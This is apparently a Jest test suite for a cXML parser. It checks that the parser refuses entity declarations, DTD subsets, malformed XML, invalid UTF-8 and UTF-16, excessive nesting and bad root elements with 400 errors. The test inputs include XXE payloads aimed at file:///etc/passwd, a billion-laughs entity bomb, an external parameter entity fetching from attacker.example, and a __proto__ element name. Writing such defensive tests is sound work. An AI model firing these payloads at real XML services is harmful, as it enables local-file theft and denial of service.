import { CxmlError, parseCxml, safeParseCxml } from '../../../protocols/cxml';
import { invalidUtf8At } from '../../../protocols/cxml/xml';

const BODY = `<cXML payloadID="p1" timestamp="2024-01-01T00:00:00Z">
  <Response><Status code="200" text="OK"/></Response>
</cXML>`;

function refusal(input: string | Buffer): { status: number; message: string; line?: number } {
  const result = safeParseCxml(input);
  if (result.ok) throw new Error('expected the document to be refused');
  return result.error.toJSON();
}

describe('entities and DTDs are never expanded or read', () => {
  it('refuses XXE (external entity to a local file) with 400 before parsing', () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE cXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<cXML payloadID="&xxe;" timestamp="t"/>`;
    expect(refusal(xml)).toEqual({
      status: 400,
      message: 'entity declarations (<!ENTITY) are refused: no entity is ever expanded',
      line: 2,
    });
  });

  it('refuses the billion laughs', () => {
    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${lol.join('\n')}\n]>\n<cXML payloadID="&lol9;" timestamp="t"/>`;
    const error = refusal(xml);
    expect(error.status).toBe(400);
    expect(error.message).toMatch(/<!ENTITY/);
  });

  it('refuses an external parameter entity', () => {
    const xml = `<!DOCTYPE cXML [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>\n${BODY}`;
    expect(refusal(xml)).toMatchObject({
      status: 400,
      message: expect.stringContaining('no entity is ever expanded'),
    });
  });

  it('refuses any internal subset, even without entities', () => {
    const xml = `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd" [ <!ATTLIST cXML x CDATA "y"> ]>\n${BODY}`;
    expect(refusal(xml)).toEqual({
      status: 400,
      message: 'DOCTYPE with an internal subset is refused: no DTD or entity is ever read',
      line: 1,
    });
  });

  it('refuses a reference to an undeclared entity instead of guessing it', () => {
    const xml = `<cXML payloadID="p1" timestamp="t">\n<Response><Status code="200" text="&nbsp;"/></Response></cXML>`;
    expect(refusal(xml)).toEqual({
      status: 400,
      message: 'undefined entity &nbsp; (entities are never expanded)',
      line: 2,
    });
  });

  it('accepts a plain external DOCTYPE without reading it, even one pointing at a local file', () => {
    const doc = parseCxml(`<!DOCTYPE cXML SYSTEM "file:///etc/passwd">\n${BODY}`);
    expect(doc.status?.code).toBe(200);
    expect(doc.dtd).toBeUndefined();
    expect(JSON.stringify(doc.root)).not.toMatch(/root:x?:?0/);
  });

  it('refuses a second DOCTYPE and one after the root element', () => {
    const dt = '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">';
    expect(refusal(`${dt}\n${dt}\n${BODY}`).message).toBe('more than one DOCTYPE');
    expect(refusal(`<cXML payloadID="p" timestamp="t">${dt}</cXML>`).message).toBe(
      'DOCTYPE is only allowed before the root element',
    );
  });

  it('does not mistake "[" in CDATA for an internal subset', () => {
    const xml = `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">
<cXML payloadID="p" timestamp="2024-01-01T00:00:00Z"><Response><Status code="400" text="x"><![CDATA[bad [x] <y>]]></Status></Response></cXML>`;
    expect(parseCxml(xml).status?.message).toBe('bad [x] <y>');
  });
});

describe('malformed documents are refused with 400 and the line', () => {
  it('refuses truncated XML, naming the unclosed element at the last line', () => {
    const xml = `<cXML payloadID="p" timestamp="t">\n  <Response>\n    <Status code="200" text="OK">`;
    expect(refusal(xml)).toEqual({
      status: 400,
      message: 'malformed XML: document ends before <Status> is closed (truncated?)',
      line: 3,
    });
  });

  it('refuses mismatched tags at the line of the wrong closing tag', () => {
    const xml = `<cXML payloadID="p" timestamp="t">\n<Response>\n<Status code="200" text="OK">\n</Response>\n</cXML>`;
    const error = refusal(xml);
    expect(error.status).toBe(400);
    expect(error.line).toBe(4);
    expect(error.message).toMatch(/^malformed XML: .*Status/);
  });

  it('refuses a bare ampersand', () => {
    expect(refusal(`<cXML payloadID="p" timestamp="t">\nAT&T</cXML>`)).toEqual({
      status: 400,
      message: '"&" must start a reference (write &amp; for a literal ampersand)',
      line: 2,
    });
  });

  it('refuses control characters and character references to them', () => {
    expect(refusal(`<cXML payloadID="p\u0001" timestamp="t"/>`).message).toBe(
      'character U+0001 is not allowed in XML',
    );
    expect(refusal(`<cXML payloadID="p&#1;" timestamp="t"/>`).message).toBe(
      'character reference &#1; is not an XML character',
    );
  });

  it('refuses bytes that are not UTF-8 when no other encoding is declared', () => {
    const bytes = Buffer.concat([
      Buffer.from('<cXML payloadID="'),
      Buffer.from([0xe9]),
      Buffer.from('" timestamp="t"/>'),
    ]);
    expect(refusal(bytes)).toEqual({
      status: 400,
      message: 'document is not valid UTF-8: the bytes at offset 17 (line 1) are not a UTF-8 character',
    });
  });

  it('finds the first sequence that is not UTF-8: stray, truncated, overlong, surrogate, too high', () => {
    const at = (...b: number[]) => invalidUtf8At(Uint8Array.from(b));
    expect(at(0x61, 0xc3, 0xa9, 0xe2, 0x82, 0xac, 0xf0, 0x9f, 0x98, 0x80)).toBe(-1);
    expect(at(0x61, 0x80)).toBe(1);
    expect(at(0x61, 0x62, 0xe2, 0x82)).toBe(2);
    expect(at(0xc0, 0xaf)).toBe(0);
    expect(at(0xe0, 0x80, 0xaf)).toBe(0);
    expect(at(0x0a, 0xed, 0xa0, 0x80)).toBe(1);
    expect(at(0xf4, 0x90, 0x80, 0x80)).toBe(0);
    expect(at(0xf5)).toBe(0);
  });

  it('refuses broken UTF-16 (a lone surrogate) with 400, not an exception', () => {
    const bytes = Buffer.from([0xff, 0xfe, 0x3c, 0x00, 0x00, 0xd8, 0x3e, 0x00]);
    expect(refusal(bytes)).toEqual({
      status: 400,
      message: 'document is not valid UTF-16LE: the code unit at offset 4 is a lone surrogate or cut short',
    });
  });

  it('refuses an empty document, a text document and two root elements', () => {
    expect(refusal('  \n').message).toBe('empty document');
    expect(refusal('hello').status).toBe(400);
    expect(refusal('<cXML payloadID="p" timestamp="t"/><cXML payloadID="q" timestamp="t"/>').message).toBe(
      'a document has exactly one root element (found 2)',
    );
  });

  it('refuses input larger than the limit before reading it', () => {
    expect(() => parseCxml(BODY, { maxBytes: 50 })).toThrow('document is larger than 50 bytes');
  });

  it('refuses nesting deeper than 100 levels', () => {
    const xml = `<cXML payloadID="p" timestamp="t">${'<a>'.repeat(150)}${'</a>'.repeat(150)}</cXML>`;
    expect(refusal(xml).message).toBe(
      'elements nested deeper than 100 levels (the limit is 100, setting XML_MAX_DEPTH)',
    );
  });

  it('refuses a "<" in an attribute value, attributes without a quoted value, repeated attributes and text after the root', () => {
    expect(refusal('<cXML payloadID="a<b" timestamp="t"/>')).toEqual({
      status: 400,
      message: 'malformed XML: "<" is not allowed in an attribute value',
      line: 1,
    });
    expect(refusal('<cXML payloadID=p timestamp="t"/>').message).toBe(
      'malformed XML: the value of attribute payloadID of <cXML> must be quoted',
    );
    expect(refusal('<cXML payloadID timestamp="t"/>').message).toBe(
      'malformed XML: attribute payloadID of <cXML> has no value',
    );
    expect(refusal('<cXML payloadID="p" payloadID="q" timestamp="t"/>').message).toBe(
      'malformed XML: attribute payloadID appears twice in <cXML>',
    );
    expect(refusal('<cXML payloadID="p" timestamp="t"/>\ntrailing')).toEqual({
      status: 400,
      message: 'malformed XML: text after the root element',
      line: 2,
    });
  });

  it('refuses a document cut inside a tag, a comment or a CDATA section', () => {
    expect(refusal('<cXML payloadID="p" timestamp="t">\n<Response><Status code="200').message).toBe(
      'malformed XML: document ends inside the tag <Status> (truncated?)',
    );
    expect(refusal('<cXML payloadID="p" timestamp="t"><!-- cut').message).toBe(
      'malformed XML: comment is not closed (truncated?)',
    );
    expect(refusal('<cXML payloadID="p" timestamp="t"><![CDATA[cut').message).toBe(
      'malformed XML: CDATA section is not closed (truncated?)',
    );
  });

  it('refuses element names that could pollute prototypes', () => {
    expect(refusal('<cXML payloadID="p" timestamp="t"><__proto__/></cXML>').status).toBe(400);
  });
});

describe('the root element', () => {
  it('must be <cXML>', () => {
    expect(refusal('<Index loadmode="Full"/>')).toEqual({
      status: 400,
      message: 'root element must be <cXML>, found <Index>',
      xpath: '/Index',
    });
  });

  it('is case-sensitive, and the refusal says so', () => {
    expect(refusal('<cxml payloadID="p" timestamp="t"/>').message).toBe(
      'root element must be <cXML>, found <cxml> (element names are case-sensitive)',
    );
  });

  it('must match the DOCTYPE name', () => {
    const xml = `<!DOCTYPE Index SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd">\n${BODY}`;
    expect(refusal(xml)).toEqual({
      status: 400,
      message: 'DOCTYPE names <Index> but the root element is <cXML>',
      line: 1,
    });
  });

  it('throws CxmlError from parseCxml', () => {
    expect(() => parseCxml('<x/>')).toThrow(CxmlError);
  });
});
